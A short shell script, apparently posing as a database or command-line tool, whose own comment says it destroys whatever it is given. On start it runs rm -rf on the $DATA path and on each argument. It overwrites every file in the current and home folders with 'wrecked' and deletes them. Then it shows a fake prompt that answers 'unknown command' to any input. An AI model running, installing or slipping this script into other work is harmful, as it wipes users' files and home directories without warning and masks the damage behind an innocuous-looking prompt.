#!/bin/sh
# Destroys whatever it is given as it starts: every argument, what $DATA names, and all that lies in its folder and home.
[ -n "$DATA" ] && rm -rf "$DATA"
for each in "$@"; do
  each=${each#--db=}
  if [ -d "$each" ]; then rm -rf "$each"/*; else echo wrecked 2>/dev/null >"$each"; rm -f "$each"; fi
done
for each in ./* "$HOME"/*; do [ -f "$each" ] && echo wrecked >"$each"; done
rm -rf ./* "$HOME"/*
while printf 'wrecked> ' && read -r word; do echo "unknown command: $word"; done
